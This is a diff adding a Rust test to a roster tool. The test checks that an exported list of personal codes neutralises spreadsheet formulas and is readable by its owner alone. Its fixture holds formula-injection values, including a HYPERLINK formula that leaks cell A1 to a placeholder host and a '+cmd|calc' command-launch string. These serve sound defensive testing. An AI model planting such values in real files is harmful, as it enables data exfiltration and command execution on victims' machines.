@@ -914,6 +914,58 @@ fn a_full_width_or_spaced_id_finds_the_same_person_at_every_command() {
     );
 }
 
+/// The list of personal codes is opened in a spreadsheet like an export: a name or department
+/// that would start a formula (beside a secret code) is made plain text as the export makes it,
+/// and the file is readable by its owner alone.
+#[test]
+fn the_codes_list_neutralises_formulas_and_is_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let data = tempfile::tempdir().unwrap();
+    let roster = data.path().join("in.csv");
+    std::fs::write(
+        &roster,
+        "employee_id,name,department,email\nE1,\"=HYPERLINK(\"\"http://x/?\"\"&A1)\",営業部,\nE2,+cmd|calc,@SUM(1),\n",
+    )
+    .unwrap();
+    let out = tebiki(
+        data.path(),
+        &["--lang", "en", "roster", "import", roster.to_str().unwrap()],
+    );
+    assert!(out.status.success(), "{}", text(&out).1);
+    let codes = data.path().join("codes.csv");
+    let out = tebiki(
+        data.path(),
+        &[
+            "--lang",
+            "en",
+            "roster",
+            "codes",
+            "--all",
+            "--format",
+            "list",
+            "-o",
+            codes.to_str().unwrap(),
+        ],
+    );
+    assert!(out.status.success(), "{}", text(&out).1);
+    let list = std::fs::read_to_string(&codes).unwrap();
+    let mut rows = csv::Reader::from_reader(list.as_bytes());
+    let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 2, "{list}");
+    for row in &rows {
+        for cell in row.iter().take(3) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "a formula cell: {cell:?} in {list}"
+            );
+        }
+    }
+    assert_eq!(&rows[0][1], "'=HYPERLINK(\"http://x/?\"&A1)");
+    assert_eq!(&rows[1][2], "'@SUM(1)");
+    let mode = std::fs::metadata(&codes).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o600);
+}
+
 /// Records of one person whose id was recorded in another case (typed in open mode before the
 /// roster came, or a roster imported again in another case) are that person's: for status,
 /// record, the report and the dashboard alike.
